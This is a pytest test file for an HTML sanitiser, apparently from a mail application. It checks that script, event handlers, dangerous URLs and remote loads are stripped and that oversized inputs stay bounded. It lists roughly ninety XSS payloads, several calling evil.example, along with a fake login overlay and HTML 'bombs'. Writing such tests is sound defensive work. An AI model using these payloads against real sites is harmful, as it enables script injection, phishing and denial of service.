"""Nothing active, loading or leaking survives the sanitiser; what people wrote does."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext
from html.parser import HTMLParser
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relevo.core import html_bounds
from relevo.core.html import sanitize_authored, sanitize_mail, sanitize_marked, strip_marks
from relevo.core.html_bounds import MAX_DEPTH, bounded

ALLOWED = {
    "href", "rel", "alt", "width", "height", "data-cid", "data-remote-src", "src", "align", "valign", "colspan", "rowspan", "start",
    "span", "dir", "lang",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "textarea", "select", "meta", "link", "base",
    "template", "noscript", "frame", "frameset", "applet", "video", "audio", "source", "body", "html", "head", "title", "marquee", "dialog",
    "portal", "xmp", "plaintext", "noembed", "noframes", "isindex", "keygen", "layer", "image", "animate", "set",
}  # fmt: skip


class Inspector(HTMLParser):
    """Collects every tag and attribute of a document as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_harmless(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    for tag, attributes in inspector.tags:
        assert tag not in FORBIDDEN_TAGS, html
        assert set(attributes) <= ALLOWED, html
        assert re.match(r"(?i)(https?://|mailto:|tel:)", attributes.get("href") or "http://"), html
        assert re.match(r"data:image/(png|jpe?g|gif);base64,[A-Za-z0-9+/=]+$", attributes.get("src") or "data:image/png;base64,AA"), html
        assert re.match(r"https?://", attributes.get("data-remote-src") or "http://"), html


@contextmanager
def rewriting() -> Iterator[None]:
    """Sends every document the long way, through the rewriting that is meant for large ones."""
    with mock.patch.object(html_bounds, "_SIMPLE_LENGTH", -1):
        yield


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' style='x'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=javascript:alert(1)>",
    '<img src="jav\tascript:alert(1);">',
    '<img src="jav&#x0A;ascript:alert(1);">',
    '<img src=" &#14; javascript:alert(1);">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img/src='https://e.example/x.png'/onload=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=data:text/html,<script>alert(1)</script>>",
    "<img srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img data-remote-src='javascript:alert(1)'>",
    "<img data-cid='x\" onerror=\"alert(1)'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<img alt='\"><script>alert(1)</script>' src='https://e.example/a.png'>",
    "<img alt='<img src=x onerror=alert(1)>' src='cid:a'>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="cid:x">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    "<a href='https://ok.example' onclick='alert(1)' onmouseover=alert(1) target=_blank ping='https://evil.example'>x</a>",
    "<a href=https://ok.example rel=opener>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form action=https://evil.example><input type=password name=p><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script></option></select>",
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Login</div>',
    "<table background='https://evil.example/x.png'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<body onload=alert(1) background=https://evil.example/x.png>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png onerror=alert(1)></video>",
    "<audio><source src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1><script>alert(1)</script>",
    "<p id=csrf class=btn name=cookie data-behavior=delete hx-get=/x x-on:click=alert(1)>x</p>",
    "<p data-mark='cut' data-action=x contenteditable tabindex=1 accesskey=x draggable=true slot=a is=x-y>x</p>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example></portal>",
    "<p lang='\"><script>alert(1)</script>' dir='x y'>x</p>",
    "<font color='expression(alert(1))' face=x size=7>x</font>",
    "<td colspan='1\" onclick=\"alert(1)'>x</td>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<layer src=https://evil.example></layer>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("sanitize", [sanitize_mail, sanitize_authored])
def test_attacks(attack: str, sanitize) -> None:  # type: ignore[no-untyped-def]
    assert_harmless(sanitize(attack))
    assert_harmless(sanitize(f"<table><tr><td><p>before {attack} after"))
    with rewriting():
        assert_harmless(sanitize(attack))
        assert_harmless(sanitize(f"<table><tr><td><p>before {attack} after"))


def test_enough_attacks_are_tried() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello <b>Ana</b></p>", "<p>Hello <b>Ana</b></p>"),
        ('<a href="https://e.org/?a=1&amp;b=2">x</a>', '<a href="https://e.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="mailto:a@example.org">x</a>', '<a href="mailto:a@example.org" rel="noopener noreferrer nofollow">x</a>'),
        ('<img src="cid:logo@1" alt="Logo">', '<img alt="Logo" data-cid="logo@1">'),
        ('<img src="https://example.org/a.png">', '<img data-remote-src="https://example.org/a.png">'),
        ('<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'),
        ('<img src="data:image/png;base64,' + "A" * 60_000 + '">', "<img>"),
        ('<img src="https://t.example.org/o.gif" width="1" height="1">', ""),
        ('<img src="https://t.example.org/o.gif" style="width:1px;height:1px">', ""),
        ("<p><o:p>&nbsp;</o:p>x</p>", "<p>&nbsp;x</p>"),
        ('a<div style="display: none">hidden <b>text</b></div>b', "ab"),
        ('<td colspan="2" align="right" bgcolor="red">x</td>', "x"),
        ('<table><tr><td colspan="2" bgcolor="red">x</td></tr></table>', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("", ""),
    ],
)
def test_mail_html(html: str, expected: str) -> None:
    assert sanitize_mail(html) == expected


def test_a_mail_hidden_as_a_whole_is_shown() -> None:
    assert sanitize_mail('<div style="display:none">everything</div>') == "<div>everything</div>"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hi <strong>you</strong></p><ul><li>a</li></ul>", "<p>Hi <strong>you</strong></p><ul><li>a</li></ul>"),
        ('<p>x<img src="https://example.org/a.png">y</p>', "<p>xy</p>"),
        ('<img data-cid="a1" src="/attachments/1/" alt="x">', '<img data-cid="a1" alt="x">'),
        ('<p style="color:red" class="x">y</p>', "<p>y</p>"),
        ("<center><font>x</font></center>", "x"),
    ],
)
def test_authored_html(html: str, expected: str) -> None:
    assert sanitize_authored(html) == expected


def test_marks_name_elements_and_can_be_taken_off() -> None:
    html = '<div class="old x" id="y"><p style="z">a</p></div><img class="old" src="cid:1">'
    marked, defects = sanitize_marked(html, lambda tag, attribute, value: "cut" if attribute == "class" and "old" in value else "")
    assert marked == '<div data-mark="cut"><p>a</p></div><img data-cid="1">'
    assert strip_marks(marked) == sanitize_mail(html)
    assert defects == []


def test_sanitised_angle_brackets_in_attributes_are_escaped() -> None:
    """`relevo.core.text` and the rewriting of images rely on it: no raw bracket inside a tag."""
    assert sanitize_mail('<img alt="<b>" src="cid:x">') == '<img alt="&lt;b&gt;" data-cid="x">'


BOMBS = {
    "nested": "<div>" * 100_000,
    "attributes": "<div " + " ".join(f"a{number}" for number in range(60_000)) + ">x",
    "open formatting": "".join(f"<b title={number}>" for number in range(5000)) + "<p>x" * 20_000,
    "comments": "<!-->" * 100_000,
    "brackets": "<" * 400_000,
    "open quotes": "<a href='" * 60_000 + '<a "' * 3,
    "tables": "<div><table></div></table>" * 20_000,
    "hidden in quotes": '<a b"><div><div><div><div>"' * 20_000,
    "raw text": "<style>" * 70_000,
    "titles": "<title></title>" * 40_000,
    "data": "<img src='data:image/png;base64," + "A" * 3_000_000 + "'>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_are_bounded(name: str) -> None:
    start = time.process_time()
    made = sanitize_mail(BOMBS[name])
    assert time.process_time() - start < 3
    assert len(made) < 3_000_000


def test_rewritten_documents_are_balanced_and_keep_their_text() -> None:
    rewritten, defects = bounded("<p>One<p>Two<div><b>Three</div>Four</b>" + "<p>x</p>" * 1300)
    assert rewritten.startswith("<p>One</p><p>Two<div><b>Three</b></div>Four")
    assert defects == []
    deep, defects = bounded("<div>" * 5000 + "x")
    assert deep.count("<div>") == deep.count("</div>") == MAX_DEPTH
    assert defects == ["complex-html"]


EXAMPLES = settings(max_examples=150, deadline=None, database=None, derandomize=True)
PIECES = st.lists(
    st.sampled_from(ATTACKS)
    | st.sampled_from(["<p>", "</p>", "<table>", "<td>", "</div>", '"', "'", ">", "<", "<!--", "-->", "&lt;", "x", "<b ", "="]),
    max_size=12,
)


@EXAMPLES
@given(PIECES)
def test_any_mixture_is_harmless_and_stable(pieces: list[str]) -> None:
    html = "".join(pieces)
    for way in (nullcontext, rewriting):
        with way():
            once = sanitize_mail(html)
            assert_harmless(once)
            assert_harmless(sanitize_authored(html))
        assert sanitize_mail(once) == once


@EXAMPLES
@given(st.text(alphabet="<>/ab\"'=! -&;\x00\n", max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(sanitize_mail(text))
    with rewriting():
        assert_harmless(sanitize_mail(text))
